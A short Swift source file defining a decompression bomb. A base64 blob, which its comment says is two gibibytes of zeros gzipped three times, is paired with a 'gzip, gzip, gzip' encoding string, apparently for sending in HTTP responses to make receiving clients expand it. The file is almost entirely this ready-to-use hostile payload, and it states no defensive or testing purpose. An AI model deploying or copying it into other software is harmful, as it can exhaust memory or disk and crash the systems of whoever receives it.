import Foundation

/// Two gibibytes of zeros, compressed three times.
enum Bomb {
    static let encoding = "gzip, gzip, gzip"
    static let bytes = [UInt8](Data(base64Encoded: text) ?? Data())

    private static let text = """
        H4sIAAAAAAACA5Pv5mAAASbmt3cW5k1OlGh7WF+iyJuUzMR60qJnpurcgxMVZqjJMDwUiNi0wMDUuu+sgmDx5B1569gdBERDT3O9\
        TfzzvXSl//5PJ6f//nG85EaV2c/i3du//y80rN/1z7rWEGS2cvnHAsubfYyHb599dLe9GCiS8MZOXu7Ne7fG4/7rz89hBoq4vf/9\
        8uTpu/yNV7fr/z7HCBRZ/D1r75y32xp2nz2/uP8dWKRcXwJknmYTiHdBCczRBXMElJE4ozKjMqMyozKjMqMyozKjMqMyozKjMqMy\
        g0Um/PXTGmvWM3X5Yuf38+WaH559df332/FC/xneh7n5FtyUZwAAsloknZUNAAA=
        """
}
